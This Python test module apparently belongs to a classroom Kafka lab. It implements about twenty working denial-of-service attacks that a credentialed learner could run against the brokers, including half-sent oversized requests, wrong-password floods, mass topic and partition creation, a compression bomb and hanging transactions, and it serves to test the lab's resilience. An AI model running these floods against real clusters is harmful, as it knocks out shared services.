"""What somebody with a learner's card may try to bring the class down: python -m tests.classroom.attacks KIND SECONDS

The settings of the card's log-in come as JSON on standard input. Each kind makes one kind of the brokers' state grow as
quickly as it can, from an address of its own (127.0.0.2), and prints what it got done.
"""

import contextlib
import itertools
import json
import os
import random
import socket
import struct
import sys
import threading
import time
import uuid
from collections import Counter
from collections.abc import Callable, Iterator

from kafka import KafkaAdminClient, KafkaProducer
from kafka import errors as kafka_errors
from kafka.protocol.admin import (
    AlterConfigsRequest,
    CreatePartitionsRequest,
    CreateTopicsRequest,
    IncrementalAlterConfigsRequest,
)
from kafka.protocol.broker_version_data import BrokerVersionData
from kafka.protocol.consumer import JoinGroupRequest, OffsetCommitRequest
from kafka.protocol.metadata import ApiVersionsRequest, MetadataRequest
from kafka.protocol.producer import InitProducerIdRequest, ProduceRequest
from kafka.record.memory_records import MemoryRecordsBuilder

from helpers.kafka import diagnosis

SOURCE = "127.0.0.2"
KINDS: dict[str, Callable] = {}
AT_ONCE = 4  # connections that ask


class Attacker:
    """One who has a card, and a deadline."""

    def __init__(self, settings: dict, seconds: float):
        self.settings = settings
        self.name = settings["sasl_plain_username"]
        host, port = settings["bootstrap_servers"].split(",")[0].split(":")
        self.address = diagnosis.Address(host, int(port))
        self.deadline = time.monotonic() + seconds
        self.done: Counter = Counter()

    @property
    def goes_on(self) -> bool:
        return time.monotonic() < self.deadline

    def plain(self) -> socket.socket:
        return socket.create_connection(self.address, timeout=10, source_address=(SOURCE, 0))

    def line(self, log_in: bool = True) -> diagnosis._Line:
        """A connection that has logged in."""
        settings = {key: value for key, value in self.settings.items() if key != "bootstrap_servers"}
        settings["sasl_plain_password"] = diagnosis.Secret(settings["sasl_plain_password"])
        until = time.monotonic() + 10
        line = diagnosis._Line(diagnosis._encrypt(self.plain(), self.address, settings, until), self.address, until)
        keys = line.ask(ApiVersionsRequest(version=0)).api_keys
        line.versions = BrokerVersionData(api_versions={k.api_key: (k.min_version, k.max_version) for k in keys})
        if log_in:
            diagnosis._log_in(line, self.address, settings)
        line._deadline = self.deadline + 20
        return line

    def clients(self) -> dict:
        return self.settings | {"request_timeout_ms": 10_000}

    def ask_all_the_time(self, requests: Iterator, say=lambda answer: getattr(answer, "error_code", "?")) -> None:
        """Ask one request after the other, on several connections."""

        def run():
            line = None
            while self.goes_on:
                try:
                    line = line or self.line()
                    with lock:
                        request = next(requests)
                    answer = line.ask(request) if not isinstance(request, tuple) else raw(line, *request)
                    self.done[str(say(answer))] += 1
                except StopIteration:
                    return
                except (OSError, kafka_errors.KafkaError, diagnosis.LabError) as error:
                    self.done[type(error).__name__] += 1
                    line = None
                    time.sleep(0.05)

        lock = threading.Lock()
        together(run, AT_ONCE)


def together(run: Callable, count: int) -> None:
    threads = [threading.Thread(target=run) for _ in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def raw(line, key: int, version: int, body: bytes) -> int:
    """Send a request that kafka-python does not know, and return the length of its answer."""
    head = struct.pack(">hhih", key, version, 1, 1) + b"x\0"
    line._socket.settimeout(20)
    line._socket.sendall(struct.pack(">i", len(head) + len(body)) + head + body)
    left = struct.unpack(">i", _exactly(line, 4))[0]
    return len(_exactly(line, left))


def _exactly(line, count: int) -> bytes:
    got = b""
    while len(got) < count:
        more = line._socket.recv(count - len(got))
        if not more:
            raise ConnectionResetError
        got += more
    return got


def kind(function):
    KINDS[function.__name__] = function
    return function


def _letters(count: int) -> str:
    return random.randbytes(count // 2).hex()


def _prepare(one: Attacker) -> None:
    """Have the coordinator of transactions there."""
    with KafkaProducer(**one.settings, transactional_id=f"{one.name}.first") as producer:
        producer.init_transactions()


def _init(name: str):
    return InitProducerIdRequest(
        transactional_id=name, transaction_timeout_ms=60_000, producer_id=-1, producer_epoch=-1
    )


@kind
def long_transactional_ids(one: Attacker) -> None:
    _prepare(one)
    one.ask_all_the_time(_init(f"{one.name}.{_letters(32_000)}") for _ in itertools.count())


@kind
def many_transactional_ids(one: Attacker) -> None:
    _prepare(one)
    one.ask_all_the_time(_init(f"{one.name}.{number:0240}") for number in itertools.count())


def _hold_lines(one: Attacker, use: Callable, count: int = 300) -> None:
    lines = []

    def run():
        while one.goes_on and len(lines) < count:
            try:
                line = one.line()
                use(line)
                lines.append(line)
                one.done["held"] += 1
            except (OSError, kafka_errors.KafkaError, diagnosis.LabError) as error:
                one.done[type(error).__name__] += 1
                time.sleep(0.2)

    together(run, 8)
    while one.goes_on:
        time.sleep(0.1)


@kind
def announced_requests(one: Attacker) -> None:
    """Each says how long its request will be, and sends no more."""
    _hold_lines(one, lambda line: line._socket.sendall(struct.pack(">i", 1_300_000) + bytes(100)))


@kind
def larger_announcements(one: Attacker) -> None:
    _hold_lines(one, lambda line: line._socket.sendall(struct.pack(">i", 4_000_000) + bytes(100)))


@kind
def answers_that_nobody_reads(one: Attacker) -> None:
    """A small name costs the broker some thirty bytes of an answer, which waits until it is read."""
    names = 250_000
    body = struct.pack(">i", names) + b"".join(b"\0\x03%03x" % (n % 4096) for n in range(names)) + b"\0\0\0"
    head = struct.pack(">hhih", 3, 8, 1, 1) + b"x"
    _hold_lines(one, lambda line: line._socket.sendall(struct.pack(">i", len(head + body)) + head + body))


@kind
def log_ins(one: Attacker) -> None:
    """Wrong passwords."""
    one.settings["sasl_plain_password"] = "wrong"

    def run():
        while one.goes_on:
            try:
                one.line()
            except (OSError, kafka_errors.KafkaError, diagnosis.LabError) as error:
                one.done[type(error).__name__] += 1

    together(run, 16)


@kind
def connections(one: Attacker) -> None:
    """Plain ones, without a log-in, as many as there can be."""
    lines = []

    def run():
        while one.goes_on:
            try:
                lines.append(one.plain())
                one.done["made"] += 1
            except OSError as error:
                one.done[type(error).__name__] += 1
                time.sleep(0.05)
            if len(lines) > 2000:
                lines.pop(0).close()

    together(run, 8)


def _topics(version: int, name: str, count: int, partitions: int, configs: dict | None = None):
    topic = CreateTopicsRequest.CreatableTopic
    settings = [topic.CreatableTopicConfig(name=key, value=value) for key, value in (configs or {}).items()]
    topics = [
        topic(name=f"{name}-{n}", num_partitions=partitions, replication_factor=1, assignments=[], configs=settings)
        for n in range(count)
    ]
    return CreateTopicsRequest(version=version, topics=topics, timeout_ms=20_000, validate_only=False)


def _first(answer):
    return answer.topics[0].error_code


@kind
def partitions_of_old_requests(one: Attacker) -> None:
    one.ask_all_the_time((_topics(4, f"{one.name}.{n}", 1, 9_900) for n in itertools.count()), _first)


@kind
def partitions(one: Attacker) -> None:
    one.ask_all_the_time((_topics(7, f"{one.name}.{n}", 1, 9_900) for n in itertools.count()), _first)


@kind
def topics(one: Attacker) -> None:
    one.ask_all_the_time((_topics(7, f"{one.name}.{n}", 90, 1) for n in itertools.count()), _first)


@kind
def settings_of_topics(one: Attacker) -> None:
    long = {"leader.replication.throttled.replicas": ",".join(f"{n}:1" for n in range(4000))}
    one.ask_all_the_time((_topics(7, f"{one.name}.{n}", 1, 1, long) for n in itertools.count()), _first)


@kind
def added_partitions(one: Attacker) -> None:
    with KafkaAdminClient(**one.clients()) as admin, contextlib.suppress(kafka_errors.KafkaError):
        admin.create_topics({f"{one.name}.more-{n}": {"num_partitions": 1} for n in range(20)})
    topic = CreatePartitionsRequest.CreatePartitionsTopic
    one.ask_all_the_time(
        (
            CreatePartitionsRequest(
                version=version,
                topics=[topic(name=f"{one.name}.more-{n % 20}", count=9_000, assignments=None)],
                timeout_ms=20_000,
                validate_only=False,
            )
            for n in itertools.count()
            for version in (1, 3)
        ),
        lambda answer: answer.results[0].error_code,
    )


@kind
def settings_of_groups(one: Attacker) -> None:
    """Of groups that do not exist."""
    resource = IncrementalAlterConfigsRequest.AlterConfigsResource

    def request(number: int):
        setting = resource.AlterableConfig(name="share.auto.offset.reset", config_operation=0, value="earliest")
        found = [
            resource(resource_type=32, resource_name=f"{one.name}.{number}-{n}-{_letters(16_000)}", configs=[setting])
            for n in range(60)
        ]
        return IncrementalAlterConfigsRequest(resources=found, validate_only=False)

    one.ask_all_the_time(map(request, itertools.count()), lambda answer: answer.responses[0].error_code)


@kind
def settings_again_and_again(one: Attacker) -> None:
    with KafkaAdminClient(**one.clients()) as admin, contextlib.suppress(kafka_errors.KafkaError):
        admin.create_topics({f"{one.name}.set": {"num_partitions": 1}})
    resource = AlterConfigsRequest.AlterConfigsResource
    long = ",".join(f"{n}:1" for n in range(2000))

    def request(_number):
        setting = resource.AlterableConfig(name="leader.replication.throttled.replicas", value=long)
        found = resource(resource_type=2, resource_name=f"{one.name}.set", configs=[setting])
        return AlterConfigsRequest(resources=[found], validate_only=False)

    one.ask_all_the_time(map(request, itertools.count()), lambda answer: answer.responses[0].error_code)


def _join(one: Attacker, group: str, bytes_: int, version: int = 3):
    protocol = JoinGroupRequest.JoinGroupRequestProtocol(name="range", metadata=random.randbytes(bytes_))
    return JoinGroupRequest(
        version=version,
        group_id=group,
        session_timeout_ms=60_000,
        rebalance_timeout_ms=2**31 - 1,
        member_id="",
        protocol_type="consumer",
        protocols=[protocol],
    )


@kind
def metadata_of_members(one: Attacker) -> None:
    one.ask_all_the_time(_join(one, f"{one.name}.{n}", 1_200_000) for n in itertools.count())


@kind
def members(one: Attacker) -> None:
    """Of small metadata; that the first of a group joins again is what all others wait for."""
    one.ask_all_the_time(_join(one, f"{one.name}.{n}", 15_000) for n in itertools.count())


@kind
def members_of_the_new_protocol(one: Attacker) -> None:
    def request(number: int):
        group, member = f"{one.name}.{number % 250}".encode(), str(uuid.uuid4()).encode()
        names = [os.urandom(100).hex().encode() for _ in range(5000 if number % 2 else 70)]
        body = _compact(group) + _compact(member) + struct.pack(">i", 0) + b"\0\0" + struct.pack(">i", 60_000)
        body += _varint(len(names) + 1) + b"".join(map(_compact, names)) + b"\0" + b"\x01" + b"\0"
        return 68, 0, body

    one.ask_all_the_time(map(request, itertools.count()))


def _compact(text: bytes) -> bytes:
    return _varint(len(text) + 1) + text


def _varint(number: int) -> bytes:
    out = b""
    while number > 127:
        out += bytes([number & 127 | 128])
        number >>= 7
    return out + bytes([number])


@kind
def offsets(one: Attacker) -> None:
    with KafkaAdminClient(**one.clients()) as admin, contextlib.suppress(kafka_errors.KafkaError):
        admin.create_topics({f"{one.name}.committed": {"num_partitions": 90}})
    topic = OffsetCommitRequest.OffsetCommitRequestTopic
    part = topic.OffsetCommitRequestPartition

    def request(number: int):
        parts = [
            part(partition_index=n, committed_offset=0, committed_metadata="x" * 250, committed_leader_epoch=-1)
            for n in range(90)
        ]
        return OffsetCommitRequest(
            version=7,
            group_id=f"{one.name}.{number}",
            generation_id_or_member_epoch=-1,
            member_id="",
            group_instance_id=None,
            topics=[topic(name=f"{one.name}.committed", partitions=parts)],
        )

    one.ask_all_the_time(map(request, itertools.count()), lambda answer: answer.topics[0].partitions[0].error_code)


@kind
def producer_ids(one: Attacker) -> None:
    """Of no broker: it takes any number."""
    with KafkaAdminClient(**one.clients()) as admin, contextlib.suppress(kafka_errors.KafkaError):
        admin.create_topics({f"{one.name}.written": {"num_partitions": 90}})
    topic = ProduceRequest.TopicProduceData
    part = topic.PartitionProduceData

    def request(_number):
        parts = []
        for index in range(90):
            batch = MemoryRecordsBuilder(
                magic=2, compression_type=0, batch_size=1000, producer_id=random.getrandbits(62), producer_epoch=0,
                base_sequence=0,
            )  # fmt: skip
            batch.append(timestamp=int(time.time() * 1000), key=None, value=b"x", headers=[])
            batch.close()
            parts.append(part(index=index, records=batch.buffer()))
        return ProduceRequest(
            version=9,
            transactional_id=None,
            acks=1,
            timeout_ms=5000,
            topic_data=[topic(name=f"{one.name}.written", partition_data=parts)],
        )

    one.ask_all_the_time(
        map(request, itertools.count()), lambda answer: answer.responses[0].partition_responses[0].error_code
    )


@kind
def packed_records(one: Attacker) -> None:
    """That have a thousand times their size when unpacked, in a topic where the broker has to do it."""
    with KafkaAdminClient(**one.clients()) as admin, contextlib.suppress(kafka_errors.KafkaError):
        admin.create_topics(
            {f"{one.name}.packed": {"num_partitions": 1, "configs": {"compression.type": "uncompressed"}}}
        )
    batch = MemoryRecordsBuilder(magic=2, compression_type=1, batch_size=2_000_000_000)
    batch.append(timestamp=int(time.time() * 1000), key=None, value=bytes(200_000_000), headers=[])
    batch.close()
    packed = bytes(batch.buffer())
    topic = ProduceRequest.TopicProduceData
    data = [topic(name=f"{one.name}.packed", partition_data=[topic.PartitionProduceData(index=0, records=packed)])]
    one.ask_all_the_time(
        (
            ProduceRequest(version=9, transactional_id=None, acks=1, timeout_ms=5000, topic_data=data)
            for _ in itertools.count()
        ),
        lambda answer: answer.responses[0].partition_responses[0].error_code,
    )


@kind
def hanging_transactions(one: Attacker) -> None:
    """One after the other is begun, and none is ended (nor by `main`)."""
    with KafkaAdminClient(**one.clients()) as admin, contextlib.suppress(kafka_errors.KafkaError):
        admin.create_topics({f"{one.name}.paid": {"num_partitions": 5}})
    producers = []

    def run():
        while one.goes_on:
            try:
                producer = KafkaProducer(
                    **one.settings, transactional_id=f"{one.name}.{uuid.uuid4()}", transaction_timeout_ms=900_000,
                    max_block_ms=5000,
                )  # fmt: skip
                producers.append(producer)
                producer.init_transactions()
                producer.begin_transaction()
                producer.send(f"{one.name}.paid", b"x").get(10)
                one.done["hang"] += 1
            except (kafka_errors.KafkaError, OSError) as error:
                one.done[type(error).__name__] += 1
                time.sleep(0.2)

    together(run, AT_ONCE)


@kind
def clients_that_are_measured(one: Attacker) -> None:
    """GetTelemetrySubscriptions, each time as another client."""
    one.ask_all_the_time((71, 0, uuid.uuid4().bytes + b"\0") for _ in itertools.count())


@kind
def sessions_of_fetches(one: Attacker) -> None:
    one.ask_all_the_time(
        (MetadataRequest(version=8, topics=None, allow_auto_topic_creation=False,
                         include_cluster_authorized_operations=False, include_topic_authorized_operations=False)
         for _ in itertools.count()),
        lambda answer: len(answer.topics),
    )  # fmt: skip


def main() -> None:
    """Attack, as the command line says; who sits at another machine takes no processor of this one's."""
    os.nice(15)
    one = Attacker(json.load(sys.stdin), float(sys.argv[2]))
    KINDS[sys.argv[1]](one)
    print(dict(one.done), flush=True)
    os._exit(0)  # the connections end with the process


if __name__ == "__main__":
    main()
